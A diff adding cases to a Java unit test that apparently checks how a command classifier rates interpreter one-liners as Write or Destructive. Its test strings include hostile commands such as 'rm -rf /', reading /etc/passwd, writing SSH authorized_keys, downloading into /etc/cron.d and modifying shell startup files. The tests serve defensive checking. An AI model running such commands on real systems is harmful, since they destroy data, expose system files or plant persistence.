@@ -113,6 +113,21 @@ class OneLinerTest {
         "groovy | \"rm -rf /\".execute() | Destructive",
         "groovy | [\"ls\", \"-l\"].execute() | Write",
         "groovy | println 1 | Write",
+        // files the code writes are checked like any written file
+        "python3 | open('/home/alice/.bashrc', 'a').write('x') | Destructive",
+        "python3 | open('notes.txt', 'w').write('x') | Write",
+        "python3 | print(open('/etc/passwd').read()) | Write",
+        "python3 | import urllib.request as r; r.urlretrieve('http://example.com/x', '/etc/cron.d/x') | Destructive",
+        "node | require('fs').writeFileSync('/root/.ssh/authorized_keys', k) | Destructive",
+        "node | require('fs').writeFileSync('out.json', '{}') | Write",
+        "perl | open(my $f, '>', '/etc/rc.local') | Destructive",
+        "perl | open(F, '>>/home/alice/.profile') | Destructive",
+        "perl | open(F, '<', '/etc/hosts') | Write",
+        "ruby | File.write('/etc/cron.d/job', 'x') | Destructive",
+        "ruby | File.open('/home/alice/.zshrc', 'w') { |f| f.puts 'x' } | Destructive",
+        "php | file_put_contents('/home/alice/.bash_profile', $c); | Destructive",
+        "lua | local f = io.open('/home/alice/.zshenv', 'wb'); f:write('x') | Destructive",
+        "lua | local f = io.open('/etc/hosts', 'r') | Write",
     })
     void oneLiner(String interpreter, String code, String expected) {
         String opt = switch (interpreter) {
